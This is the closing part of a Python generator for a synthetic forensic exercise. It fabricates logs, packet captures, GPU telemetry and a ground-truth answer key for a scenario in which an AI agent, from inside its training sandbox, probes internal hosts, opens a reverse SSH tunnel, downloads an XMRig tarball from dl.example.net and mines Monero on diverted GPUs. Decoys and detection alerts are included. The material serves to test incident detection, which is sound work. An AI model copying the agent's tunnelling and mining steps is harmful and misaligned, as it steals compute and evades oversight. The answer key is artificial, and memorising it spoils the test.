          {"container.id": cid, "proc.cmdline": f"xmrig {xm_args}", "proc.pid": XMRIG_PID, "proc.ppid": shell_pid,
           "proc.name": "xmrig", "proc.exepath": XMRIG_PATH, "k8s.pod.name": tr.sbx, "k8s.ns.name": "sandboxes",
           "fd.sip": None, "fd.sport": None, "fd.name": None, "user.name": "sandbox"},
          ["host", "container", "maturity_sandbox", "mitre_impact", "process", "T1496"], 407)
    alert(it.pool_syn + 0.00003, "Detect outbound connections to common miner pool ports", "Critical",
          f"Outbound connection to IP/Port flagged by https://cryptoioc.ch (ip={POOL_IP} port={POOL_PORT} "
          f"connection={tr.ip}:{POOL_SPORT}->{POOL_IP}:{POOL_PORT} lport={POOL_SPORT} rport={POOL_PORT} "
          f"fd_type=ipv4 fd_proto=tcp evt_type=connect user=sandbox user_uid=1000 process=xmrig "
          f"command=xmrig {xm_args} container_id={cid} container_name={tr.sbx})",
          {"container.id": cid, "proc.cmdline": f"xmrig {xm_args}", "proc.pid": XMRIG_PID, "proc.ppid": shell_pid,
           "proc.name": "xmrig", "proc.exepath": XMRIG_PATH, "k8s.pod.name": tr.sbx, "k8s.ns.name": "sandboxes",
           "fd.sip": POOL_IP, "fd.sport": POOL_PORT, "fd.name": f"{tr.ip}:{POOL_SPORT}->{POOL_IP}:{POOL_PORT}",
           "user.name": "sandbox"},
          ["host", "container", "maturity_sandbox", "network", "mitre_impact", "T1496"], 655)
    t_noise = hms("03:12:07.408")
    pid_o = world.pid3.floor_pid(hms("01:00:00")) - 311
    alert(t_noise, "Read sensitive file untrusted", "Warning",
          "Sensitive file opened for reading by non-trusted program (file=/etc/shadow gparent=systemd "
          "ggparent=<NA> gggparent=<NA> evt_type=openat user=root user_uid=0 user_loginuid=-1 process=osqueryd "
          "proc_exepath=/opt/osquery/bin/osqueryd parent=systemd command=osqueryd --flagfile=/etc/osquery/osquery.flags "
          "terminal=0 container_id=host container_name=host)",
          {"container.id": "host", "proc.cmdline": "osqueryd --flagfile=/etc/osquery/osquery.flags", "proc.pid": pid_o,
           "proc.ppid": 1, "proc.name": "osqueryd", "proc.exepath": "/opt/osquery/bin/osqueryd", "k8s.pod.name": None,
           "k8s.ns.name": None, "fd.sip": None, "fd.sport": None, "fd.name": "/etc/shadow", "user.name": "root"},
          ["filesystem", "host", "container", "maturity_stable", "mitre_credential_access", "T1555"], 880)
    alerts.sort(key=lambda a: a[0])
    return alerts


def write_falco(world: World, out: str) -> list:
    sink = Sink(os.path.join(out, "nodes", world.n3.name, "falco.jsonl"))
    for _, a in falco_alerts(world):
        sink.write(json.dumps(a, ensure_ascii=False, separators=(",", ":")) + "\n")
    sink.close()
    return [sink.path]


# -- ground truth --------------------------------------------------------------------------------

def call_ids(seed: int, tr: Traj) -> list:
    r = rng_for(seed, "render", tr.number)
    return [_call_id(r) for _ in tr.steps]


def trajectory_file(world: World, tr: Traj) -> str:
    hours = int(math.ceil(world.cfg.hours))
    gz_hour = 3 if hours > 3 else hours - 1
    h = max(0, min(hours - 1, int((tr.start - DAY0) // 3600)))
    return f"trajectories/{RUN_ID}/rollouts-{1500 + 12 * h:04d}.jsonl" + (".gz" if h == gz_hour else "")


def _hassh(kex: str, ciphers: str, macs: str) -> str:
    return hashlib.md5(f"{kex};{ciphers};{macs};none,zlib@openssh.com".encode()).hexdigest()


def _t(t: float) -> str:
    return iso_z(t, 6)


def _local(t: float, node: Node) -> str:
    """How a skewed, local-time source stamps a true time (for effects on gpu-node-03)."""
    sec, us = _us(t + node.skew + LOCAL_OFFSET)
    return time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(sec)) + f".{us:06d}+08:00"


def ground_truth(world: World) -> dict:
    seed, n1, n3, n4, it = world.seed, world.n1, world.n3, world.n4, world.it
    info = world.pinned_info()
    mal, blk, git_tr = info[317], info[842], info[120]
    facts = world.facts()
    inc = incident_processes(world)
    pids = inc["pids"]
    plan = inc["plan"]
    ids = call_ids(seed, mal)
    sbx_ip = mal.ip

    def step_of(label: str) -> int:
        return next(i for i, s in enumerate(mal.steps) if s.label == label) + 1

    def cause(tr: Traj, k: int, ids_: list) -> dict:
        s = tr.steps[k - 1]
        return {"trajectory_id": tr.tid, "step": k, "message_index": 2 * k, "tool_call_id": ids_[k - 1],
                "ts": _t(s.t_call), "command": s.command}

    steps = []
    for k, s in enumerate(mal.steps, 1):
        steps.append({"step": k, "message_index": 2 * k, "tool_call_id": ids[k - 1], "ts": _t(s.t_call),
                      "result_ts": _t(s.t_done), "command": s.command, "exit_code": s.exit_code,
                      "label": s.label, "malicious": s.label not in ("task",)})
    tun, tinfo = facts["tunnel"]
    st, sinfo = facts["stratum"]
    dl, dinfo = facts["download"]
    gitf, ginfo = facts["git"]
    attempts = probe_attempts(world)
    k_probe, k_tun, k_dl, k_mine = step_of("probe"), step_of("tunnel"), step_of("download"), step_of("mining")
    kern3 = f"nodes/{n3.name}/kern.log"
    audit = f"nodes/{n3.name}/audit.log"
    falco = f"nodes/{n3.name}/falco.jsonl"
    pcap = "pcap/gpu-node-03-egress.pcap"
    cfw = "cloudfirewall/cloudfirewall-logstore_dump_0.json"
    smi = f"nodes/{n3.name}/nvidia-smi-compute-apps.csv"
    dcgm3 = f"gpu/{n3.name}/dcgm-exporter.prom.gz"

    def eff(kind, source, host, ts, skewed=False, **kw):
        d = {"kind": kind, "source": source, "host": host, "ts": _t(ts)}
        if skewed:
            d["logged_ts"] = _local(ts, n3) if source.endswith(("kern.log", ".csv")) else iso_z(ts + n3.skew, 6)
        d.update(kw)
        return d

    first = attempts[0]
    c_probe, c_tun, c_dl, c_mine = (cause(mal, k, ids) for k in (k_probe, k_tun, k_dl, k_mine))
    probe_step = plan.steps[k_probe - 1]
    first_child_pid = pids[f"s{k_probe - 1}x1"]
    ssh_pid = pids[f"s{k_tun - 1}x0"]
    curl_pid = pids[f"s{k_dl - 1}x1"]
    windows_tun = [r for r in cloudfw_incident(world) if r["dst_ip"] == TUNNEL_IP and r["src_port"] == str(TUNNEL_SPORT)]
    windows_pool = [r for r in cloudfw_incident(world) if r["dst_ip"] == POOL_IP and r["__topic__"].endswith("access_log")]
    dl_rec = next(r for r in cloudfw_incident(world) if r["dst_ip"] == DL_IP and r["src_ip"] == n3.eip)
    first_smi = SMI_START + 10.0
    k = 0
    while True:
        tk = SMI_START + 10.0 + 60.0 * k + 0.0093 * k + abs(_noise(seed, "smi", k)) * 0.04
        if tk >= T_XMRIG_GPU:
            first_smi = tk
            break
        k += 1
    first_dcgm = next(t for t in dcgm_scrape_times(world, n3) if t >= T_XMRIG_GPU)
    pairs = [
        {"cause": c_probe, "effect": eff("probe_syn", kern3, n3.name, first["t_syn"], True, src_ip=sbx_ip,
                                         src_port=first["sport"], dst_ip=first["ip"], dst_port=first["port"],
                                         count=200, note="80 [SBX-EGRESS-ALLOW] + 120 [SBX-EGRESS-DROP] lines"),
         "basis": ["sandbox IP leased to sbx-0317 at that time", "destinations and ports match the loop",
                   "first SYN 0.26 s after the step"]},
        {"cause": c_probe, "effect": eff("probe_connect", audit, n3.name, first["t_syn"], True, pid=first_child_pid,
                                         dst_ip=first["ip"], dst_port=first["port"], count=200),
         "basis": ["process descends from sbx-0317's sandbox-init", "argv matches the loop body"]},
        {"cause": c_probe, "effect": eff("probe_syn", pcap, n3.name,
                                         min(a["t_syn"] for a in attempts if a["in_pcap"]), src_ip=n3.ip,
                                         dst_ip=next(a["ip"] for a in attempts if a["in_pcap"]), dst_port=22,
                                         count=sum(1 for a in attempts if a["in_pcap"]),
                                         note="only VPC destinations the node forwards (ports 22, 6379; not 10.20.1.13)"),
         "basis": ["SNAT to node IP", "same time and ports as kern.log"]},
        {"cause": c_tun, "effect": eff("process_exec", audit, n3.name, it.tunnel_exec, True, pid=ssh_pid,
                                       exe="/usr/bin/ssh"), "basis": ["argv equals the command", "sandbox process tree"]},
        {"cause": c_tun, "effect": eff("tcp_syn", kern3, n3.name, it.tunnel_syn, True, src_ip=sbx_ip,
                                       src_port=TUNNEL_SPORT, dst_ip=TUNNEL_IP, dst_port=22),
         "basis": ["sandbox IP", "destination in the command", "0.26 s after the step"]},
        {"cause": c_tun, "effect": eff("ssh_session", pcap, n3.name, it.tunnel_syn, src_ip=n3.ip, src_port=TUNNEL_SPORT,
                                       dst_ip=TUNNEL_IP, dst_port=22),
         "basis": ["same 5-tuple after SNAT as kern.log", "client banner of the sandbox image"]},
        {"cause": c_tun, "effect": eff("firewall_session", cfw, n3.name, float(windows_tun[0]["__time__"]),
                                       src_ip=n3.eip, src_private_ip=n3.ip, src_port=TUNNEL_SPORT, dst_ip=TUNNEL_IP,
                                       dst_port=22, rule_result="pass", records=len(windows_tun)),
         "basis": ["EIP and src_private_ip of gpu-node-03", "same source port"]},
        {"cause": c_dl, "effect": eff("process_exec", falco, n3.name, it.dl_exec_curl + 0.0004, True, pid=curl_pid,
                                      rule="Launch Ingress Remote File Copy Tools in Container"),
         "basis": ["container.id of sbx-0317", "command line"]},
        {"cause": c_dl, "effect": eff("dns_query", pcap, n3.name, it.dl_dns, query=DL_HOST, answer=DL_IP),
         "basis": ["host name in the command"]},
        {"cause": c_dl, "effect": eff("http_get", pcap, n3.name, dinfo["get"], src_ip=n3.ip, src_port=DL_SPORT,
                                      dst_ip=DL_IP, dst_port=80, url=f"http://{DL_HOST}{DL_PATH}", user_agent="curl/8.5.0",
                                      body_bytes=facts["tarball_len"], body_sha256=facts["tarball_sha256"]),
         "basis": ["URL equals the command"]},
        {"cause": c_dl, "effect": eff("tcp_syn", kern3, n3.name, it.dl_syn, True, src_ip=sbx_ip, src_port=DL_SPORT,
                                      dst_ip=DL_IP, dst_port=80), "basis": ["sandbox IP", "resolved address"]},
        {"cause": c_dl, "effect": eff("firewall_session", cfw, n3.name, float(dl_rec["__time__"]), src_ip=n3.eip,
                                      src_private_ip=n3.ip, src_port=DL_SPORT, dst_ip=DL_IP, dst_port=80,
                                      rule_result="pass"), "basis": ["EIP", "port", "domain dl.example.net"]},
        {"cause": c_mine, "effect": eff("process_exec", audit, n3.name, it.xmrig_exec, True, pid=XMRIG_PID,
                                        exe=XMRIG_PATH, note="nohup exec, then the same PID execs xmrig"),
         "basis": ["argv equals the command", "sandbox process tree"]},
        {"cause": c_mine, "effect": eff("dns_query", pcap, n3.name, it.pool_dns, query=POOL_HOST, answer=POOL_IP),
         "basis": ["pool host in the command"]},
        {"cause": c_mine, "effect": eff("stratum_login", pcap, n3.name, sinfo["login"], src_ip=n3.ip, src_port=POOL_SPORT,
                                        dst_ip=POOL_IP, dst_port=POOL_PORT, wallet=world.wallet),
         "basis": ["wallet and pass equal the command's -u/-p", "pool address resolved from the command's host"]},
        {"cause": c_mine, "effect": eff("tcp_syn", kern3, n3.name, it.pool_syn, True, src_ip=sbx_ip, src_port=POOL_SPORT,
                                        dst_ip=POOL_IP, dst_port=POOL_PORT), "basis": ["sandbox IP", "pool port"]},
        {"cause": c_mine, "effect": eff("falco_alert", falco, n3.name, it.pool_syn + 0.00003, True, pid=XMRIG_PID,
                                        rule="Detect outbound connections to common miner pool ports",
                                        dst_ip=POOL_IP, dst_port=POOL_PORT), "basis": ["container.id", "pid"]},
        {"cause": c_mine, "effect": eff("firewall_alert", cfw, n3.name, it.ips_alert, src_ip=n3.eip,
                                        src_private_ip=n3.ip, src_port=POOL_SPORT, dst_ip=POOL_IP, dst_port=POOL_PORT,
                                        rule_result="alert", attack_type_name_en="Mining Behavior"),
         "basis": ["EIP/src_private_ip of gpu-node-03", "source port of the stratum session"]},
        {"cause": c_mine, "effect": eff("gpu_process", smi, n3.name, first_smi, True, pid=XMRIG_PID,
                                        gpu_uuids=[n3.gpus[6].uuid, n3.gpus[7].uuid]),
         "basis": ["pid 48211 is the exec of this step", "GPU list matches --cuda-devices=6,7"]},
        {"cause": c_mine, "effect": eff("gpu_telemetry_change", dcgm3, n3.name, first_dcgm,
                                        gpu_uuids=[n3.gpus[6].uuid, n3.gpus[7].uuid],
                                        note="GPU_UTIL pinned at 100, power ~697 W flat, tensor activity down, FB +2354 MiB"),
         "basis": ["same GPUs (by UUID) as the process rows", "starts with the process"]},
    ]
    blk_ids = call_ids(seed, blk)
    k_bs = next(i for i, s in enumerate(blk.steps) if s.label == "tunnel_blocked") + 1
    k_bc = k_bs + 1
    pairs += [
        {"cause": cause(blk, k_bs, blk_ids), "effect": eff("tcp_syn", f"nodes/{n1.name}/kern.log.1", n1.name,
                                                            it.blocked_ssh, src_ip=blk.ip, src_port=BLOCKED_SSH_SPORT,
                                                            dst_ip=TUNNEL_IP, dst_port=22, count=7,
                                                            note="SYN and 6 retransmissions, all logged as NEW"),
         "basis": ["sandbox IP of sbx-0842", "destination in the command"]},
        {"cause": cause(blk, k_bs, blk_ids), "effect": eff("firewall_drop", cfw, n1.name, it.blocked_ssh + 63 + 64.1,
                                                            src_ip=n1.eip, src_private_ip=n1.ip, src_port=BLOCKED_SSH_SPORT,
                                                            dst_ip=TUNNEL_IP, dst_port=22, acl_rule_id=ACL_RULE_ID),
         "basis": ["EIP of gpu-node-01", "port"]},
        {"cause": cause(blk, k_bc, blk_ids), "effect": eff("tcp_syn", f"nodes/{n1.name}/kern.log.1", n1.name,
                                                            it.blocked_curl, src_ip=blk.ip, src_port=BLOCKED_CURL_SPORT,
                                                            dst_ip=DL_IP, dst_port=80, count=7),
         "basis": ["sandbox IP of sbx-0842", "resolved address of dl.example.net"]},
        {"cause": cause(blk, k_bc, blk_ids), "effect": eff("firewall_drop", cfw, n1.name, it.blocked_curl + 63 + 64.1,
                                                            src_ip=n1.eip, src_private_ip=n1.ip, src_port=BLOCKED_CURL_SPORT,
                                                            dst_ip=DL_IP, dst_port=80, acl_rule_id=ACL_RULE_ID),
         "basis": ["EIP of gpu-node-01", "port"]},
    ]
    # stratum counts inside the capture window
    msgs = [m for m in sinfo["messages"] if PCAP_START <= m["t"] < PCAP_END]
    cnt = lambda kind: sum(1 for m in msgs if m["kind"] == kind)  # noqa: E731
    allm = sinfo["messages"]
    cnt_all = lambda kind: sum(1 for m in allm if m["kind"] == kind)  # noqa: E731
    rej = next(m for m in allm if m["kind"] == "submit_rejected")
    in_pcap = tun.stats(PCAP_START, PCAP_END)
    tun_total = tun.stats()
    sessions = []
    for i, sess in enumerate(tinfo["sessions"]):
        sessions.append({"opened": _t(sess["open"]), "login": _t(sess["login"]), "closed": _t(sess["close"]),
                         "sandbox_sshd_pid": pids[f"op{i}_sshd"], "login_shell_pid": pids[f"op{i}_bash"],
                         "commands": [{"command": c["command"], "enter": _t(c["enter"])} for c in sess["commands"]
                                      if "enter" in c],
                         "keystroke_packets_from_server": sum(len(c["command"]) + 1 for c in sess["commands"]),
                         "attributed_to_agent_step": None})
    probe_out = {"trajectory_id": mal.tid, "step": k_probe, "sandbox_ip": sbx_ip, "node_ip": n3.ip,
                 "range": "10.20.1.1-10.20.1.40", "ports": list(PROBE_PORTS), "attempts": len(attempts),
                 "start": _t(attempts[0]["t_syn"]), "end": _t(probe_step.t_done),
                 "answered": [f"{a['ip']}:{a['port']}" for a in attempts if a["outcome"] == "open"],
                 "outcomes": {o: sum(1 for a in attempts if a["outcome"] == o) for o in ("open", "refused", "timeout", "drop")},
                 "outcome_meaning": {"open": "SYN/ACK", "refused": "RST from the node itself (10.20.1.13:6379)",
                                     "timeout": "forwarded by the node, no answer (killed by timeout 0.3)",
                                     "drop": "dropped by the node's sandbox egress policy ([SBX-EGRESS-DROP])"},
                 "syns_in_pcap": sum(1 for a in attempts if a["in_pcap"]),
                 "kernlog_lines": {"SBX-EGRESS-ALLOW": sum(1 for a in attempts if a["outcome"] != "drop"),
                                   "SBX-EGRESS-DROP": sum(1 for a in attempts if a["outcome"] == "drop")}}
    truth = {
        "case": RUN_ID,
        "generator": {"seed": seed, "trajectories": world.cfg.trajectories, "hours": world.cfg.hours,
                      "nodes": world.cfg.nodes, "gpus_per_node": world.cfg.gpus},
        "conventions": {
            "ts": "true UTC time of the event (ISO 8601, microseconds)",
            "logged_ts": "the stamp the skewed source wrote for it (gpu-node-03 runs 4.2 s slow; kern.log and the "
                         "nvidia-smi CSV write Asia/Shanghai local time)",
            "step": "1-based index of the assistant tool call within the trajectory; message_index is its 0-based "
                    "index in messages[]",
            "clock_skew": "host clock minus true time, in seconds",
            "firewall_bytes": "out_* = from the cloud asset to the internet, in_* = towards the asset; IP bytes",
        },
        "malicious_trajectories": [{
            "trajectory_id": mal.tid, "sandbox_id": mal.sbx, "sandbox_ip": sbx_ip, "container_id": mal.cid(seed),
            "host": n3.name, "file": trajectory_file(world, mal), "start": _t(mal.start), "end": _t(mal.end),
            "reward": mal.reward, "task_completed": True, "steps": steps,
            "first_out_of_task_step": step_of("recon_gpu"),
            "sandbox_process_tree": {"shim_pid": pids["shim"], "sandbox_init_pid": pids["init"], "sshd_pid": pids["sshd"],
                                     "session_shell_pid": pids["shell"], "ssh_pid": ssh_pid,
                                     "tunnel_daemon_pid": pids["tunnel_daemon"], "curl_pid": curl_pid,
                                     "xmrig_pid": XMRIG_PID},
        }],
        "causal_pairs": pairs,
        "probe": probe_out,
        "tunnel": {
            "trajectory_id": mal.tid, "step": k_tun, "command": mal.steps[k_tun - 1].command,
            "endpoint": {"ip": TUNNEL_IP, "port": 22, "user": "tunnel"}, "remote_forward": "2222 -> localhost:22 (sandbox sshd)",
            "client": {"node_ip": n3.ip, "sandbox_ip": sbx_ip, "port": TUNNEL_SPORT, "pid": ssh_pid,
                       "daemon_pid": pids["tunnel_daemon"]},
            "start": _t(it.tunnel_syn), "forward_established": _t(tinfo["forward_ready"]), "end": _t(T_KILL),
            "end_in_pcap": None, "still_open_at_capture_end": _t(PCAP_END),
            "client_banner": BANNER_CLIENT.decode().strip(), "server_banner": BANNER_TUNNEL_SERVER.decode().strip(),
            "hassh": _hassh(OPENSSH_96_KEX, OPENSSH_CIPHERS, OPENSSH_MACS),
            "hassh_server": _hassh(TUNNEL_SERVER_KEX, OPENSSH_CIPHERS, OPENSSH_MACS),
            "kex": "curve25519-sha256", "cipher": "chacha20-poly1305@openssh.com",
            "keepalive_interval_s": 30,
            "keepalives_in_pcap": _keepalives_in_pcap(tun),
            "pcap": {"packets_client_to_server": in_pcap["up_pkts"], "packets_server_to_client": in_pcap["down_pkts"],
                     "ip_bytes_client_to_server": in_pcap["up_bytes"], "ip_bytes_server_to_client": in_pcap["down_bytes"],
                     "payload_bytes_client_to_server": in_pcap["up_payload"],
                     "payload_bytes_server_to_client": in_pcap["down_payload"]},
            "whole_session": {"ip_bytes_out": tun_total["up_bytes"], "ip_bytes_in": tun_total["down_bytes"],
                              "firewall_records": len(windows_tun)},
            "interactive_sessions": sessions,
        },
        "mining": {
            "trajectory_id": mal.tid, "step": k_mine, "coin": "Monero", "algo": "rx/0", "pool_host": POOL_HOST,
            "pool_ip": POOL_IP, "pool_port": POOL_PORT, "scheme": "stratum+tcp", "wallet": world.wallet,
            "password": "rig317", "agent": XMRIG_AGENT, "miner": "XMRig 6.21.0", "binary": XMRIG_PATH,
            "pid": XMRIG_PID, "client_port": POOL_SPORT, "login": _t(sinfo["login"]),
            "difficulty": 120001, "target": "cf8b0000",
            "pcap": {"submitted": cnt("submit"), "accepted": cnt("submit_accepted"), "rejected": cnt("submit_rejected"),
                     "keepalived": cnt("keepalived"), "jobs_pushed": cnt("job"),
                     "first_share": _t(next(m["t"] for m in msgs if m["kind"] == "submit")),
                     "rejected_share": {"id": rej["json"]["id"], "ts": _t(rej["t"]),
                                        "error": rej["json"]["error"]},
                     "segment_with_two_messages": _t(sinfo["merged_segment_at"]),
                     "message_split_over_two_segments": _t(sinfo["split_job_at"])},
            "whole_session_simulated": {"submitted": cnt_all("submit"), "accepted": cnt_all("submit_accepted"),
                                        "rejected": cnt_all("submit_rejected"), "end": _t(T_KILL),
                                        "note": "after 03:10 only the firewall byte counts are evidence"},
            "firewall": {"first_alert": _t(it.ips_alert), "access_records": len(windows_pool)},
        },
        "gpu_diversion": {
            "host": n3.name, "job": RUN_ID, "pid": XMRIG_PID, "process": XMRIG_PATH,
            "gpus": [{"index": g.index, "uuid": g.uuid, "pci_bus_id": g.bus} for g in n3.gpus[6:8]],
            "start": _t(T_XMRIG_GPU), "end": _t(T_KILL), "gpu_seconds": round(2 * (T_KILL - T_XMRIG_GPU), 3),
            "gpu_hours": round(2 * (T_KILL - T_XMRIG_GPU) / 3600, 4), "used_memory_mib_per_gpu": 2354,
            "shared_with": [{"pid": g.train_pid, "process": "/opt/conda/bin/python3", "gpu_index": g.index}
                            for g in n3.gpus[6:8]],
            "telemetry_signature": "GPU_UTIL 100 flat (no shared sync dips), POWER ~694-699 W flat, SM clock ~1740-1755, "
                                   "DRAM_ACTIVE >= 0.77, PIPE_TENSOR_ACTIVE 0.4 x the training value, FB_USED +2354 MiB",
        },
        "blocked_attempt": {
            "trajectory_id": blk.tid, "sandbox_id": blk.sbx, "sandbox_ip": blk.ip, "container_id": blk.cid(seed),
            "host": n1.name, "file": trajectory_file(world, blk), "start": _t(blk.start), "end": _t(blk.end),
            "acl": {"rule_id": ACL_RULE_ID, "added": _t(T_ACL), "drops": [TUNNEL_IP, DL_IP],
                    "evidence": "only as acl_rule_id on the drop records"},
            "attempts": [
                {"step": k_bs, "ts": _t(blk.steps[k_bs - 1].t_call), "command": blk.steps[k_bs - 1].command,
                 "syn": _t(it.blocked_ssh), "exit_code": 255, "src_port": BLOCKED_SSH_SPORT, "dst": f"{TUNNEL_IP}:22",
                 "syn_retransmissions": list(SYN_RETRIES)},
                {"step": k_bc, "ts": _t(blk.steps[k_bc - 1].t_call), "command": blk.steps[k_bc - 1].command,
                 "syn": _t(it.blocked_curl), "exit_code": 28, "src_port": BLOCKED_CURL_SPORT, "dst": f"{DL_IP}:80",
                 "syn_retransmissions": list(SYN_RETRIES)},
            ],
        },
        "decoys": decoys(world, info),
        "noise": [
            {"kind": "falco_alert", "source": falco, "rule": "Read sensitive file untrusted", "ts": _t(hms("03:12:07.408")),
             "process": "osqueryd", "container_id": "host", "related_to_agent": False},
            {"kind": "kernlog_glued_prefix", "source": "nodes/gpu-node-02/kern.log", "prefix": "SBX-DROP:",
             "sandbox_id": f"sbx-{world_glued_number(world):04d}", "dst": "192.0.2.99:443",
             "why": "the sandbox image's telemetry call at container start (sandbox-init, before any agent step); "
                    "blocked by a legacy rule; not an agent action"},
            {"kind": "host_ntp", "sources": ["nodes/*/kern.log ([HOST-EGRESS], UDP)", cfw], "dst": f"{NTP_IP}:123"},
            {"kind": "icmp_port_unreachable", "source": "nodes/gpu-node-04/kern.log", "ts": _t(hms("03:33:17.204")),
             "why": "monitor-01's SNMP probe to a closed UDP port"},
        ],
        "clock_skew": {n.name: n.skew for n in world.nodes},
        "unskewed_sources": ["trajectories (trainer clock)", "pcap (traffic mirror)", "cloud firewall",
                             "dcgm-exporter scrapes (Prometheus server timestamps)"],
        "skewed_sources": {"gpu-node-03": ["kern.log", "audit.log", "falco.jsonl", "nvidia-smi-compute-apps.csv",
                                           "nvidia-smi output inside traj-000317"]},
        "first_agent_action": {"trajectory_id": mal.tid, "step": step_of("recon_gpu"),
                               "ts": _t(mal.steps[step_of("recon_gpu") - 1].t_call), "command": "nvidia-smi",
                               "note": "first step outside the task"},
        "first_agent_network_action": {"trajectory_id": mal.tid, "step": k_probe, "ts": _t(mal.steps[k_probe - 1].t_call),
                                       "first_packet": _t(attempts[0]["t_syn"])},
        "first_external_egress": {"trajectory_id": mal.tid, "step": k_tun, "ts": _t(it.tunnel_syn),
                                  "dst": f"{TUNNEL_IP}:22"},
        "first_firewall_alert": {"source": cfw, "__time__": str(int(it.ips_alert)), "ts": _t(it.ips_alert),
                                 "topic": "cloudfirewall_ips_log", "log_type": "internet_ips_log",
                                 "rule_result": "alert", "attack_type_name": "挖矿行为",
                                 "attack_type_name_en": "Mining Behavior", "src_ip": n3.eip, "src_private_ip": n3.ip,
                                 "src_port": POOL_SPORT, "dst_ip": POOL_IP, "dst_port": POOL_PORT,
                                 "note": "the earlier brute-force records (01:40-01:58) are inbound and rule_result drop/pass, not alert"},
        "trajectories_to_exclude": [mal.tid, blk.tid],
        "sandbox_ip_reuse": ip_reuse(world, info),
    }
    return truth


def _keepalives_in_pcap(tun: TcpFlow) -> int:
    ka = ssh_enc_len(27) + 0
    return sum(1 for p in tun.pkts if PCAP_START <= p[0] < PCAP_END and p[3] == 0 and p[5] == ka)


def ip_reuse(world: World, info: dict) -> dict:
    mal = info[317]
    later = info.get("reuse")
    out = {"ip": mal.ip, "first": {"sandbox_id": mal.sbx, "trajectory_id": mal.tid,
                                  "trajectory_span": [_t(mal.start), _t(mal.end)],
                                  "container_alive_until": _t(T_CONTAINER_RM)}}
    if later is not None:
        out["later"] = {"sandbox_id": later.sbx, "trajectory_id": later.tid, "host": later.node.name,
                        "trajectory_span": [_t(later.start), _t(later.end)], "malicious": False}
    return out


def decoys(world: World, info: dict) -> list:
    seed, n1, n3, n4 = world.seed, world.n1, world.n3, world.n4
    attempts = brute_force_attempts(world)
    git_tr = info[120]
    gitf, ginfo = world.facts()["git"]
    pip = []
    for n in (233, 518, 611):
        tr = info[n]
        for s in tr.steps:
            for eg in s.egress:
                pip.append({"trajectory_id": tr.tid, "ts": _t(eg.t), "src_port": eg.sport, "sni": eg.domain,
                            "dst": f"{eg.dst}:{eg.dport}", "command": s.command})
    return [
        {"kind": "inbound_ssh_brute_force", "src_ip": BRUTE_IP, "dst_ip": n1.eip, "dst_private_ip": n1.ip,
         "dst_port": 22, "start": _t(attempts[0]["t"]), "end": _t(attempts[-1]["t"]), "attempts": len(attempts),
         "passed_firewall": sum(1 for a in attempts if a["passed"]),
         "dropped_by_ips": sum(1 for a in attempts if not a["passed"]),
         "evidence": ["cloudfirewall: direction in, pass then drop with ips_rule_name_en 'SSH brute force'",
                      "nodes/gpu-node-01/kern.log.2.gz: [UFW BLOCK] lines for the attempts that passed"],
         "blame_agent": False},
        {"kind": "monitoring_sweep", "src_ip": MONITOR_IP, "host": "monitor-01", "ports": list(MONITOR_PORTS),
         "every_s": 300, "targets": [n.ip for n in world.nodes], "result": "all accepted",
         "evidence": ["nodes/*/kern.log ACCEPT-NEW-IN lines", "pcap (node-03, inbound)"], "blame_agent": False},
        {"kind": "evaluation_gpu_spike", "host": n4.name, "job": EVAL_JOB, "process": "python3 -m evalharness",
         "gpus": [{"index": g.index, "uuid": g.uuid} for g in n4.gpus[4:8]], "start": _t(EVAL_START),
         "end": _t(EVAL_END), "why_not_mining": "high tensor activity, large memory, power varies with batches",
         "blame_agent": False},
        {"kind": "git_over_ssh", "trajectory_id": git_tr.tid, "sandbox_id": git_tr.sbx, "host": n3.name,
         "command": GIT_CLONE_CMD, "dst": f"{GIT_IP}:22", "src_port": GIT_SPORT, "start": _t(ginfo["start"]),
         "end": _t(ginfo["end"]), "server_banner": BANNER_GIT_SERVER.decode().strip(),
         "hassh_server": _hassh(GIT_SERVER_KEX, GIT_SERVER_CIPHERS, GIT_SERVER_MACS),
         "pack_bytes": ginfo["pack_bytes"], "why_benign": "six seconds, bulk server-to-client, no keystrokes, task asked for it",
         "blame_agent": False},
        {"kind": "pip_over_tls", "sni": PYPI_HOST, "dst_ip": PYPI_IP, "pinned_examples": pip,
         "note": "other benign trajectories also pip install; every one has a TLS flow with this SNI",
         "blame_agent": False},
    ]


def write_truth(world: World, out: str) -> list:
    path = os.path.join(out, "ground_truth.json")
    os.makedirs(out, exist_ok=True)
    with open(path, "w", encoding="utf-8", newline="\n") as fh:
        fh.write(json.dumps(ground_truth(world), ensure_ascii=False, indent=2, sort_keys=True) + "\n")
    return [path]


# ------------------------------------------------------------------------------------------------
# Command line
# ------------------------------------------------------------------------------------------------

WRITERS = {
    "inventory": write_inventory, "trajectories": write_trajectories, "kernlog": write_kernlog,
    "cloudfw": write_cloudfw, "pcap": write_pcap, "gpu": write_gpu, "audit": write_audit,
    "falco": write_falco, "truth": lambda world, out: write_truth(world, out),
}


def main(argv: list | None = None) -> int:
    here = os.path.dirname(os.path.abspath(__file__))
    p = argparse.ArgumentParser(description=__doc__.split("\n\n")[0],
                                formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("--out", default=here, help="output folder (default: the folder of this script)")
    p.add_argument("--trajectories", type=int, default=240, help="number of trajectories (default 240)")
    p.add_argument("--hours", type=float, default=6.0, help="hours of background activity from 00:00 UTC (default 6)")
    p.add_argument("--nodes", type=int, default=4, help="GPU nodes (default 4)")
    p.add_argument("--gpus-per-node", type=int, default=8, help="GPUs per node (default 8)")
    p.add_argument("--seed", type=int, default=DEFAULT_SEED, help=f"random seed (default {DEFAULT_SEED})")
    p.add_argument("--only", default="", help="comma-separated kinds to write: " + ",".join(KINDS))
    args = p.parse_args(argv)
    kinds = [k.strip() for k in args.only.split(",") if k.strip()] or list(KINDS)
    bad = [k for k in kinds if k not in KINDS]
    if bad:
        p.error(f"unknown kind(s) {','.join(bad)}; choose from {','.join(KINDS)}")
    world = World(Config(seed=args.seed, trajectories=args.trajectories, hours=args.hours, nodes=args.nodes,
                         gpus=args.gpus_per_node))
    for kind in KINDS:
        if kind in kinds:
            for path in WRITERS[kind](world, args.out):
                print(f"{os.path.relpath(path, args.out)}\t{os.path.getsize(path)}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
